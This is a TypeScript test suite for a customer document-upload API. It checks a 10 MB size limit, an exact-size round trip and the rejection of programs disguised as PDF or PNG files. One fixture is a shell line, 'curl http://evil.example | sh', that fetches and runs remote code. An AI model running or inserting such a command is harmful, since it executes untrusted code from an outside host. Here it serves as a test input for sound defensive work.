import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';

type Doc = { FileId: string; DisplayName: string };

/** A file of exactly `size` bytes that starts like a PDF. */
const pdfLike = (size: number) => {
  const bytes = Buffer.alloc(size, 0x20);
  Buffer.from('%PDF-1.7\n').copy(bytes);
  return bytes;
};

describe('uploads: size limit and content check refuse with a clear Message and store nothing', () => {
  let app: TestApp;
  let token = '';
  const profileDocs = async (): Promise<Doc[]> =>
    (await (await app.call('/api/Documents/GetCustomerDocuments', { headers: { UserToken: token } })).json()).Value;
  const upload = (name: string, bytes: Buffer) => {
    const form = new FormData();
    form.append('FileTypeID', '7');
    form.append('file', new Blob([new Uint8Array(bytes)]), name);
    return fetch(`${app.url}/api/file/UploadByCustomerID`, {
      method: 'POST',
      body: form,
      headers: { UserToken: token },
    });
  };
  beforeAll(async () => {
    app = await startTestApp();
    token = await app.login('delinquent');
  }, 180_000);
  afterAll(() => app.close());

  it('when a file over 10 MB is uploaded then 413 with a Message naming the limit, and nothing is stored', async () => {
    const before = await profileDocs();
    const res = await upload('scan.pdf', pdfLike(10 * 1024 * 1024 + 1));
    expect(res.status).toBe(413);
    expect(await res.json()).toEqual({
      HasNoErrors: false,
      Errors: [{ ErrorMessage: 'PayloadTooLarge' }],
      Message: 'The file is larger than 10 MB. Choose a smaller file.',
    });
    expect(await profileDocs()).toEqual(before);
  }, 60_000);

  it('when a file of exactly 10 MB is uploaded then it is stored and served back byte for byte', async () => {
    const bytes = pdfLike(10 * 1024 * 1024);
    bytes.write('%%EOF', bytes.length - 5);
    const res = await upload('statement.pdf', bytes);
    expect(res.status).toBe(200);
    const { FileId } = await res.json();
    expect((await profileDocs()).map((d) => d.FileId)).toContain(FileId);
    const passable: string = await (
      await app.call('/api/PassableToken/GetPassableToken', { headers: { UserToken: token } })
    ).json();
    const view = await app.call(
      `/api/Documents/ViewDocument?FileId=${FileId}&Name=statement.pdf&PageNumber=1&FileFormat=PDF&token=${passable}`,
    );
    expect(view.status).toBe(200);
    expect(Buffer.from(await view.arrayBuffer()).equals(bytes)).toBe(true);
  }, 60_000);

  it('when a program is renamed to .pdf or .png (Windows MZ, Linux ELF, a script) then 400 says it is a program, and nothing is stored', async () => {
    const before = await profileDocs();
    const programs: [string, Buffer, string][] = [
      [
        'invoice.pdf',
        Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]),
        'This file is a program, not a PDF document. It was not uploaded.',
      ],
      [
        'photo.png',
        Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]),
        'This file is a program, not a PNG document. It was not uploaded.',
      ],
      [
        'notes.pdf',
        Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
        'This file is a program, not a PDF document. It was not uploaded.',
      ],
    ];
    for (const [name, bytes, message] of programs) {
      const res = await upload(name, bytes);
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ HasNoErrors: false, Message: message });
    }
    expect(await profileDocs()).toEqual(before);
  }, 60_000);
});
